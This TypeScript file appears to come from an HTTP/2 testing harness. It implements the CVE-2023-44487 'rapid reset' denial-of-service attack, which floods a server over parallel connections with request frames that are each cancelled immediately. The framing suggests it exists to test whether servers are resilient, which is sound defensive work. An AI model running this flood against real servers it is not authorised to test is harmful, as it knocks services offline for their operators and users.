import { data, ERROR_CODE, encodeFields, headers, resetStream } from "../../support/clients/http2-frames.ts";
import { type Attack, inParallel } from "../attack.ts";
import { keepSession } from "../raw-session.ts";
import { type Kind, requestOf } from "../requests.ts";

const CONNECTIONS = 2;
const AT_ONCE = 50;

/** CVE-2023-44487: complete requests that are reset immediately, as fast as the connections accept them. */
export function rapidReset(kind: Kind): Attack {
  return (context) =>
    inParallel(CONNECTIONS, () =>
      keepSession(context, {}, async (session) => {
        while (session.isOpen() && context.isGoing()) {
          const { fields, body } = requestOf(kind);
          const block = encodeFields(fields);
          const parts: Buffer[] = [];
          for (let made = 0; made < AT_ONCE; made++) {
            const id = session.nextId();
            parts.push(headers(id, block, { endStream: body === undefined }));
            if (body !== undefined) parts.push(data(id, body, { endStream: true }));
            parts.push(resetStream(id, ERROR_CODE.cancel));
          }
          await session.write(...parts);
          context.count("requests", AT_ONCE);
        }
      }),
    );
}
